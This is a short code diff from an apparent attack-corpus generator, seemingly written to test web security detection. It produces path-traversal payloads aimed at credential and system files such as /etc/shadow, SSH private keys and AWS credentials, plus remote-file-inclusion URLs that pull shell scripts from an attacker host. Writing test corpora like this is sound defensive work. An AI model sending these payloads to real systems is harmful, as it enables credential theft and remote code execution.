@@ -103,7 +103,7 @@ const generators: Record<CorpusAttackClass, readonly Generator[]> = {
     (rng) => param(`${rng.pick(['uploads/', 'static/', 'templates/', 'images/'])}${depth(rng)}${localFile(rng)}`, ['file', 'tep', 'img'], ['query', 'form', 'path']),
     (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['cookie', 'header'], ['Accept-Language', 'X-Original-URL']),
     (rng) => param(rng.pick(['C:\\Windows\\win.ini', 'c:\\windows\\system.ini', 'C:/Windows/win.ini', 'c:\\boot.ini', 'C:\\inetpub\\wwwroot\\web.config', 'D:\\inetpub\\wwwroot\\web.config', '/root/.ssh/id_rsa', `/home/${rng.pick(['ubuntu', 'deploy', 'admin'])}/.ssh/id_rsa`, '/proc/self/environ', '/etc/shadow', `/home/${rng.pick(['ubuntu', 'www'])}/.bash_history`, '/root/.aws/credentials']), ['file', 'path', 'tep', 'download', 'template', 'doc'], ['query', 'form', 'json', 'cookie']),
-    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['header'], ['Accept-Language', 'Accept-Charset', 'Accept-Encoding']),
+    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['header'], ['Accept-Language', 'Accept-Charset']),
   ],
   rfi: [
     (rng) => param(`${rng.pick(['http', 'https', 'ftp'])}://${attackerHost(rng)}/${rng.pick(['shell.txt', 'x.php', 'r57.txt', 'inc/c.txt', 'a.jpg', 'bot.pl'])}${rng.pick(['?', '??', '', '%3F', '#'])}`, ['page', 'include', 'template', 'file', 'module', 'lang', 'path'], ['query', 'form', 'json', 'cookie']),
